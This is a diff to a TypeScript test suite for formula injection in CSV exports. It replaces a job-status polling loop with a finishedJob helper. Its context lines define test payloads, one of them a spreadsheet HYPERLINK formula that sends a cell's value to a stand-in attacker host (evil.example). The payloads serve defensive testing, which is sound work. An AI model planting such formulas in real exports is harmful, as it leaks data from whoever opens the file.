@@ -14,7 +14,7 @@ import type { CampaignSummary, ExportFile, JobStatus } from '../../../src-main/c
 import { csvDocument, csvField } from '../../../src-main/core/export/csv';
 import { parseCsv } from '../../../src-main/core/intake/csv';
 import { importRegistrations } from '../../../src-main/core/intake/import-registrations';
-import { ok, openTestApp, repoRoot, tempDir } from '../../helpers';
+import { ok, openTestApp, repoRoot, tempDir, finishedJob } from '../../helpers';
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"Click me")';
 const PLUS = '+SUM(1,2)';
@@ -86,11 +86,7 @@ describe('formula injection in exports', () => {
     fs.copyFileSync(path.join(media, 'rotated-phone.mp4'), path.join(folder, 'SC-0002.mp4'));
     fs.copyFileSync(path.join(media, 'photo.jpg'), path.join(folder, 'SC-0003.jpg'));
     fs.copyFileSync(path.join(media, 'small.png'), path.join(folder, 'SC-0004.png'));
-    let status = await ok<JobStatus>(dispatch('media:link', { campaignId: campaign.id, folder }));
-    while (status.state === 'running') {
-      await new Promise((r) => setTimeout(r, 50));
-      status = await ok<JobStatus>(dispatch('job:status', { jobId: status.jobId }));
-    }
+    const status = await finishedJob(dispatch, await ok<JobStatus>(dispatch('media:link', { campaignId: campaign.id, folder })));
     expect(status.state).toBe('done');
 
     const csv = await ok<ExportFile>(dispatch('compliance:export', { campaignId: campaign.id, format: 'csv' }));
